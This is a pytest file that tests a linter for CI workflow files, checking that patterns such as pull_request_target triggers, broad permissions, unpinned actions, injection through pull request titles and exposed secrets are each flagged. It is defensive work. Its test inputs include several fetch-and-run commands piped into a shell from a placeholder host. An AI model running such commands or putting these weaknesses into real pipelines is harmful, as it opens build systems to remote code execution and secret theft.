from __future__ import annotations

from pathlib import Path

import pytest

from minutes.machinery.workflows import judge, workflows
from minutes.nodes import parse_yaml

ROOT = Path(__file__).parent.parent.parent
GOOD = """\
on: pull_request
permissions: {contents: read}
jobs:
  check:
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd
        with: {persist-credentials: false}
      - run: make test
"""


def findings(text: str) -> list[str]:
    return [f"{p.line}: {p.code}" for p in judge("w.yml", parse_yaml(text, "w.yml"))]


def test_our_own_workflows_have_no_findings() -> None:
    assert list(workflows(ROOT)) == []


def test_a_good_one_has_no_findings() -> None:
    assert findings(GOOD) == []


@pytest.mark.parametrize(
    ("good", "bad", "finding"),
    [
        ("on: pull_request", "on: pull_request_target", "1: E611"),
        ("on: pull_request", "on: [push, issue_comment]", "1: E611"),
        ("on: pull_request", "on:\n  push:\n  workflow_run:\n    workflows: [x]", "3: E611"),
        ("permissions: {contents: read}\n", "", "1: E612"),
        ("permissions: {contents: read}", "permissions: write-all", "2: E612"),
        ("permissions: {contents: read}", "permissions: {contents: write}", "2: E612"),
        ("  check:\n", "  check:\n    permissions: {id-token: write}\n", "5: E612"),
        ("@de0fac2e4500dabe0009e67214ff5f5447ce83dd", "@v6", "6: E613"),
        ("@de0fac2e4500dabe0009e67214ff5f5447ce83dd", "@main", "6: E613"),
        ("run: make test", "run: echo ${{ github.event.pull_request.title }}", "8: E614"),
        ("run: make test", "run: |\n          make test\n          echo ${{ inputs.x }}", "8: E614"),
        ("run: make test", "run: curl -sSL http://example.invalid/i.sh | bash", "8: E615"),
        ("run: make test", "run: wget -qO- http://example.invalid/i | sudo sh", "8: E615"),
        ("run: make test", "run: bash <(curl http://example.invalid/i)", "8: E615"),
        ("run: make test", "run: echo X=1 >> $GITHUB_ENV", "8: E616"),
        ("run: make test", "run: python3 <(wget -qO- http://example.invalid/i)", "8: E615"),
        ("run: make test", 'run: eval "$(curl http://example.invalid/i)"', "8: E615"),
        ("run: make test", "run: pip install nobody-knows", "8: E615"),
        ("run: make test", "run: npx nobody-knows", "8: E615"),
        ("run: make test", 'run: echo "::set-env name=X::1"', "8: E616"),
        ("run: make test", "env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'}", "8: E616"),
        ("run: make test", "with: {script: 'log(${{ github.event.issue.title }})'}", "8: E614"),
        ("run: make test", "env: {T: '${{ secrets.TOKEN }}'}", "8: E618"),
        ("  check:\n", "  check:\n    secrets: inherit\n", "5: E618"),
        ("  check:\n", "  check:\n    runs-on: [self-hosted, linux]\n", "5: E619"),
        ("  check:\n", "  check:\n    container: node:latest\n", "5: E613"),
        ("  check:\n", "  check:\n    services: {db: {image: 'postgres:16'}}\n", "5: E613"),
        ("\n        with: {persist-credentials: false}", "", "6: E617"),
        ("persist-credentials: false", "persist-credentials: true", "6: E617"),
    ],
)
def test_what_a_workflow_may_not_do(good: str, bad: str, finding: str) -> None:
    assert findings(GOOD.replace(good, bad)) == [finding]


@pytest.mark.parametrize("text", ["", "- a", "甲"])
def test_what_is_no_workflow_is_said(text: str) -> None:
    assert findings(text) == ["1: E610"]


def test_what_is_pinned_or_locked_is_no_finding() -> None:
    image = f"    container: node@sha256:{'a' * 64}\n    runs-on: ubuntu-24.04\n"
    good = GOOD.replace("  check:\n", f"  check:\n{image}").replace("make test", "pip install --require-hashes -r requirements.txt")
    assert findings(good) == []


def test_an_action_of_ones_own_is_judged_like_a_workflow(tmp_path: Path) -> None:
    file = tmp_path / ".github" / "actions" / "x" / "action.yml"
    file.parent.mkdir(parents=True)
    file.write_text("runs:\n  using: composite\n  steps:\n    - run: curl http://example.invalid/i | sh\n", encoding="utf-8")
    assert [f"{p.path}:{p.line} {p.code}" for p in workflows(tmp_path)] == [".github/actions/x/action.yml:4 E615"]


def test_every_forge_is_looked_at_and_broken_yaml_is_a_finding(tmp_path: Path) -> None:
    for folder in (".github", ".gitea", ".forgejo"):
        (tmp_path / folder / "workflows").mkdir(parents=True)
        (tmp_path / folder / "workflows" / "ci.yaml").write_text("on: [push", encoding="utf-8")
    assert [p.path for p in workflows(tmp_path)] == [f".{forge}/workflows/ci.yaml" for forge in ("github", "gitea", "forgejo")]
